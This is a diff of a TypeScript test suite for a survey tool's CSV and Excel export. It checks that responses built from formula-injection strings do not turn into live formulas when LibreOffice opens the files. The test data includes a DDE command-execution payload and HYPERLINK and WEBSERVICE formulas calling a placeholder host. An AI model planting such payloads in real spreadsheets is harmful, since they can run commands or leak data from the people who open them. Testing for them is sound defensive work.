@@ -3,25 +3,72 @@ import { spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { pathToFileURL } from 'node:url';
 import { after, before, describe, it } from 'node:test';
+import { pathToFileURL } from 'node:url';
 import exceljs from 'exceljs';
+import { layoutOf } from '../../../../src/pipelines/exports/columns.ts';
 import { safeText, writeCsv } from '../../../../src/pipelines/exports/csv.ts';
 import { writeExcel } from '../../../../src/pipelines/exports/excel/excel.ts';
-import { layoutOf } from '../../../../src/pipelines/exports/columns.ts';
 import type { FileContent, Writer } from '../../../../src/pipelines/exports/writer.ts';
 import { createExportRows } from '../../../../src/stores/clickhouse/read/export-rows.ts';
 import { blankSurvey, withQuestion } from '../../../support/questions.ts';
-import { givenStart, openResponseDatabase, responseLine, type ResponseDatabase } from '../../../support/response-database.ts';
+import {
+  givenStart,
+  openResponseDatabase,
+  type ResponseDatabase,
+  responseLine,
+} from '../../../support/response-database.ts';
 
-const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', "'=", "''@", '{=', '=-', '=+', ' =', '\u00a0=', '\u200b='];
+const starts = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  "'=",
+  "''@",
+  '{=',
+  '=-',
+  '=+',
+  ' =',
+  '\u00a0=',
+  '\u200b=',
+];
 const ends = [
-  '1+1', 'SUM(A1:A9)', 'HYPERLINK("http://x/?"&A1,"open")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://x")', 'a\r\nb', 'a\nb\nc', 'q"uo""te', 'a,b;c\td', '\u202egnp.exe', '👩‍👩‍👧‍👦🏳️‍🌈', 'é𝒳客人مرحبا', '<b>&amp;</b>]]>', '_x003D_1', 'IMPORTXML(A1)',
+  '1+1',
+  'SUM(A1:A9)',
+  'HYPERLINK("http://x/?"&A1,"open")',
+  "cmd|' /C calc'!A0",
+  'WEBSERVICE("http://x")',
+  'a\r\nb',
+  'a\nb\nc',
+  'q"uo""te',
+  'a,b;c\td',
+  '\u202egnp.exe',
+  '👩‍👩‍👧‍👦🏳️‍🌈',
+  'é𝒳客人مرحبا',
+  '<b>&amp;</b>]]>',
+  '_x003D_1',
+  'IMPORTXML(A1)',
 ];
 const long = 'x'.repeat(40_000);
 const mostInCell = 32_767;
 /** Every start with every end, words in between that are no trouble, and a text that no cell can hold. */
-const hostile = [...starts.flatMap((start) => ends.map((end) => start + end)), ...ends.map((end) => `text ${end}`), ...starts.map((start) => `${start}`), `=${long}`, long].concat(Array.from({ length: 500 }, (_, n) => `=${n}+${n}`)).slice(0, 500);
+const hostile = [
+  ...starts.flatMap((start) => ends.map((end) => start + end)),
+  ...ends.map((end) => `text ${end}`),
+  ...starts.map((start) => `${start}`),
+  `=${long}`,
+  long,
+]
+  .concat(Array.from({ length: 500 }, (_, n) => `=${n}+${n}`))
+  .slice(0, 500);
 
 /** Spreadsheets have one kind of line end inside a cell, and a bound. */
 const asCell = (text: string): string => text.slice(0, mostInCell).replace(/\r\n?/g, '\n');
@@ -43,16 +90,36 @@ describe('hostile cells in a spreadsheet program', { skip }, () => {
   /** Every response of a survey with one open question, written with this writer. */
   async function fileOf(writer: Writer): Promise<Buffer> {
     const { survey } = withQuestion(blankSurvey(), { type: 'LONG_TEXT', text: '=HYPERLINK("http://x")', settings: {} });
-    await database.store(hostile.map((text, n) => responseLine({ surveyId: survey.id, submittedAtMs: givenStart + n, codes: [1], texts: [text] })));
+    await database.store(
+      hostile.map((text, n) =>
+        responseLine({ surveyId: survey.id, submittedAtMs: givenStart + n, codes: [1], texts: [text] }),
+      ),
+    );
     const rows = createExportRows({ clickhouse: database.clickhouse });
     const selection = { surveyId: survey.id };
     const pieces: Uint8Array[] = [];
     const content: Omit<FileContent, 'scan'> = {
-      survey, layout: layoutOf(survey, { labels: 'text', columns: [survey.questions[0]?.id ?? ''] }), createdAt: new Date(givenStart), batches: rows.batches(selection, 1), csvLines: (columns) => rows.csvLines(selection, columns, 1),
+      survey,
+      layout: layoutOf(survey, { labels: 'text', columns: [survey.questions[0]?.id ?? ''] }),
+      createdAt: new Date(givenStart),
+      batches: rows.batches(selection, 1),
+      csvLines: (columns) => rows.csvLines(selection, columns, 1),
       themes: async () => [],
-      summarise: async () => ({ surveyId: survey.id, totalResponses: hostile.length, completeResponses: hostile.length, completionRate: 100, averageDuration: 0, meanDuration: null, byDay: [], questions: [] }),
+      summarise: async () => ({
+        surveyId: survey.id,
+        totalResponses: hostile.length,
+        completeResponses: hostile.length,
+        completionRate: 100,
+        averageDuration: 0,
+        meanDuration: null,
+        byDay: [],
+        questions: [],
+      }),
     };
-    await writer({ ...content, scan: () => rows.batches(selection, 1) }, { write: async (bytes) => void pieces.push(Uint8Array.from(bytes)) });
+    await writer(
+      { ...content, scan: () => rows.batches(selection, 1) },
+      { write: async (bytes) => void pieces.push(Uint8Array.from(bytes)) },
+    );
     return Buffer.concat(pieces);
   }
 
@@ -61,7 +128,20 @@ describe('hostile cells in a spreadsheet program', { skip }, () => {
     const [given, made] = [join(folder, name), join(folder, 'made')];
     mkdirSync(made, { recursive: true });
     writeFileSync(given, bytes);
-    const run = spawnSync('soffice', [`-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`, '--headless', ...filter, '--convert-to', 'xlsx', '--outdir', made, given], { encoding: 'utf8', timeout: 120_000 });
+    const run = spawnSync(
+      'soffice',
+      [
+        `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
+        '--headless',
+        ...filter,
+        '--convert-to',
+        'xlsx',
+        '--outdir',
+        made,
+        given,
+      ],
+      { encoding: 'utf8', timeout: 120_000 },
+    );
     assert.equal(run.status, 0, run.stderr);
     const workbook = new exceljs.Workbook();
     await workbook.xlsx.readFile(join(made, name.replace(/\.\w+$/, '.xlsx')));
@@ -74,10 +154,18 @@ describe('hostile cells in a spreadsheet program', { skip }, () => {
 
   function formulas(sheet: exceljs.Worksheet): string[] {
     const found: string[] = [];
-    sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === exceljs.ValueType.Formula || cell.type === exceljs.ValueType.Hyperlink ? found.push(cell.address) : undefined)));
+    sheet.eachRow((row) =>
+      row.eachCell(
+        (cell) =>
+          void (cell.type === exceljs.ValueType.Formula || cell.type === exceljs.ValueType.Hyperlink
+            ? found.push(cell.address)
+            : undefined),
+      ),
+    );
     return found;
   }
-  const texts = (sheet: exceljs.Worksheet): string[] => hostile.map((_, index) => sheet.getRow(index + 2).getCell(1).text);
+  const texts = (sheet: exceljs.Worksheet): string[] =>
+    hostile.map((_, index) => sheet.getRow(index + 2).getCell(1).text);
 
   it('would be formulas if they were written as they are', async () => {
     assert.ok(formulas(await opened('naked.csv', Buffer.from('head\r\n=1+1\r\n'), readingCsv)).length > 0);
